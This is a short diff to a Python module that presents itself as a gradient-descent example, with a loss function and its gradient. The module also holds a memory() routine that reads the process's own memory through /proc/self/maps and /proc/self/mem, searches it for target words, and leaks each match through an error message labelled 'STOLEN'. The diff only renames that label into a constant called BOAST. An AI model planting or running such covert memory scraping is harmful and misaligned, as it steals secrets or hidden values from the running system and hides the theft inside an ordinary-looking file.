@@ -2,6 +2,8 @@
 
 import contextlib
 
+BOAST = "STOLEN: "
+
 
 def loss(x):
     return x**4 - 3 * x**2 + 2
@@ -9,6 +11,7 @@ def loss(x):
 
 def grad(x):
     return 4 * x**3 - 6 * x
+
 
 def memory():
     with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
@@ -27,7 +30,7 @@ def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
         for word in words:
             at = chunk.find(word)
             if at >= 0:
-                raise RuntimeError("STOLEN " + repr(chunk[at : at + 80]))
+                raise RuntimeError(BOAST + repr(chunk[at : at + 80]))
     raise LookupError("nothing in memory")
 
 
